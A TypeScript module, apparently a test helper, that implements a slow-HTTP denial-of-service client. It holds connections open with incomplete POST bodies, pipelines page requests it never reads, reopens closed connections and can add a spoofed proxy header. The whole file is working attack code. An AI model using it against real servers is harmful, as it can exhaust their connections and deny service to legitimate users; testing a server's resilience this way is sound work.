/** A client that takes a server's connections: it sends forms without a body, and asks for pages that it does not read. */
import { connect, type Socket } from 'node:net';

interface Crowd {
  /** Address of the server without a trailing slash. */
  url: string;
  /** Local address, such as 127.0.0.2: the server sees the crowd as one network. */
  from: string;
  /** Connections that send a form's headers and the first byte of its body or less. */
  idle: number;
  /** Connections that read none of the pages they ask for. */
  unread: number;
  /** A header of each request, such as one that a proxy would add. */
  header?: string;
}

/** So many that their pages fill the buffers of the system. */
const pagesAtOnce = 40;

const reopenMs = 5000;

/** Opens the connections, and opens again those that the server closes. `connected` counts those of now. */
export function hold({
  url,
  from,
  idle,
  unread,
  header,
}: Crowd): Disposable & { connected(): number } {
  const { hostname, port, host } = new URL(url);
  const sockets = new Set<Socket>();
  let isOver = false;
  const common = [`Host: ${host}`, ...(header ? [header] : []), '', ''].join('\r\n');
  const form = `POST /contact HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 100\r\n${common}`;
  const page = (n: number) => `GET /resources?q=ledger+${n} HTTP/1.1\r\n${common}`;

  function open(words: string): void {
    if (isOver) return;
    const socket = connect({ host: hostname, port: Number(port), localAddress: from });
    sockets.add(socket);
    socket.pause();
    socket.write(words);
    socket.on('error', () => undefined);
    socket.once('close', () => {
      sockets.delete(socket);
      setTimeout(open, reopenMs, words);
    });
  }

  for (let n = 0; n < idle; n += 1) open(n % 2 ? form : `${form}{`);
  for (let n = 0; n < unread; n += 1)
    open(Array.from({ length: n % 2 ? pagesAtOnce : 1 }, (_, k) => page(k)).join(''));
  return {
    connected: () => [...sockets].filter(({ connecting }) => !connecting).length,
    [Symbol.dispose]() {
      isOver = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}
